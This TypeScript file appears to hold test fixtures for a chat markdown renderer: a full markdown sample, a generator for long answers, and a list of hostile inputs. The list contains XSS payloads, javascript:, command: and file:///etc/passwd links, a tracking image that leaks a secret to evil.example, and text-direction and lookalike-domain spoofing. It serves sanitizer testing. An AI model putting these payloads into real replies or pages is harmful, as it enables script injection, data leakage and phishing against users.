/** A sample of all markdown that a chat is likely to see. */
export const markdownSample = `# Markdown, all of it

A paragraph with **bold**, *italic*, ***both***, ~~struck~~ and \`inline code\`, a [link](https://example.com "with a
title"), a bare address https://example.com/path and an emoji 🙂. A line break\\
made by a backslash.

## Lists

1. First
2. Second
   - nested, with \`code\`
   - nested again
     1. and once more
3. Third

- [x] done
- [ ] not done

## Table

| Language | Typed | Since |
| :--- | :---: | ---: |
| TypeScript | yes | 2012 |
| Python | \`maybe\` | 1991 |
| a \\| pipe | **no** | 0 |

## Quotes

> A quote over
> two lines
>
> > and a quote within it

## Code

\`\`\`typescript
/** Adds two numbers. */
export function add(a: number, b: number): number {
  return a + b; // <not a tag> & "not" an entity
}
\`\`\`

\`\`\`diff
- const answer = 41;
+ const answer = 42;
\`\`\`

    an indented block

\`\`\`
no language
\`\`\`

---

Euler: $e^{i\\pi} + 1 = 0$. HTML stays text: <b>not bold</b> &amp; done.
`;

/** A reply that must be harmless to look at (design, bad input). */
export const hostileSample = [
  "This reply tries to do harm. All of it must be shown as harmless text.",
  `<script>document.title = "owned"; window.owned = true</script>`,
  `<img src="x" onerror="window.owned = true"> <svg onload="window.owned = true"></svg>`,
  `<iframe src="https://evil.example/"></iframe><style>body { display: none }</style><base href="https://evil.example/">`,
  "[a javascript link](javascript:window.owned=true) [a command link](command:workbench.action.terminal.new)",
  "[a file link](file:///etc/passwd) [a data link](data:text/html,<script>window.owned=true</script>) [vscode](vscode://evil.example/x)",
  "![a remote image](https://evil.example/pixel.png?leak=secret) <img src='https://evil.example/leak.png'>",
  "[ref]: javascript:window.owned=true\n\n[a reference link][ref]",
  "Text direction: \u202Egnp.exe\u202C and \u2066hidden\u2069, zero\u200Bwidth, and a lookalike p\u0430ypal.com",
  "```html\n<script>window.owned = true</script>\n```",
  '```"><img src=x onerror=window.owned=true>\nthe language of this block is an attack\n```',
  "<!-- a comment that never ends",
  `${">".repeat(500)} five hundred quotes`,
  `${"- ".repeat(300)}three hundred lists`,
  `${"**".repeat(500)}${"[".repeat(500)}${"![](".repeat(200)}`,
  `\u0000\u0007\u001B[31m control characters \u{1F468}\u200D\u{1F469}\u200D\u{1F467}`,
  "a".repeat(20_000),
].join("\n\n");

const longParts = [
  (n: number) => `## Part ${n}

The ${n}. part is prose. It speaks of parsers, streams and buffers, of a **bold** claim and its *cautious* proof, and it
names \`part_${n}\` more than once, so that a search for \`part_${n}\` finds something. See [part ${n}](https://example.com/${n}).
`,
  (n: number) => `### Steps of part ${n}

1. Read the first ${n} bytes.
2. Look at them:
   - if they are text, go on,
   - if not, stop at byte ${n * 7}.
3. Repeat.
`,
  (n: number) => `| Step | Input | Output | Time |
| --- | --- | --- | ---: |
| ${n}.1 | \`a\` | \`b\` | ${n} ms |
| ${n}.2 | \`b\` | \`c\` | ${n * 2} ms |
| ${n}.3 | \`c\` | \`a\` | ${n * 3} ms |
`,
  (n: number) => `\`\`\`typescript
interface Step${n} {
  readonly name: string;
  readonly milliseconds: number;
}

export function total${n}(steps: readonly Step${n}[]): number {
  return steps.reduce((sum, step) => sum + step.milliseconds, ${n});
}
\`\`\`
`,
  (n: number) => `\`\`\`python
from dataclasses import dataclass

@dataclass
class Step${n}:
    name: str
    milliseconds: int = ${n}

def total_${n}(steps: list[Step${n}]) -> int:
    """Sum of all steps."""
    return sum(step.milliseconds for step in steps)
\`\`\`
`,
  (n: number) => `> A remark on part ${n}: what is measured is not what is felt.
`,
  (n: number) => `\`\`\`rust
pub fn total_${n}(steps: &[u64]) -> u64 {
    steps.iter().sum::<u64>() + ${n} // never overflows here
}
\`\`\`
`,
  (n: number) => `\`\`\`json
{ "part": ${n}, "steps": [{ "name": "read", "milliseconds": ${n} }], "done": false }
\`\`\`
`,
];

/** Markdown of about so many kilobytes, always the same for the same number. */
export function longSample(kilobytes: number): string {
  const sections: string[] = ["# A long answer\n"];
  for (let size = 0, n = 0; size < kilobytes * 1000; n++) {
    const section = longParts[n % longParts.length]?.(n + 1) ?? "";
    sections.push(section);
    size += section.length + 1;
  }
  return sections.join("\n");
}
